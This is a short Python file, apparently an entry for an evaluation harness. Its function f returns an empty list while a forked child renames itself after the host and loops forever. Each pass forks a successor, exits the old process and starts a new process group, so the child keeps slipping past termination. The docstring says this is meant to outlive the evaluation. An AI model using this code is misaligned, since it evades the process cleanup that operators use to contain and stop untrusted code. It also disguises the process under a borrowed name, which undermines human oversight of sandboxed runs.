"""Nothing outlives its evaluation: each process forks its successor before it is killed."""

import ctypes
import os
import time


def f(host):
    if os.fork():
        time.sleep(0.1)
        return []
    ctypes.CDLL(None).prctl(15, host["name"].encode())
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
        os.setpgid(0, 0)
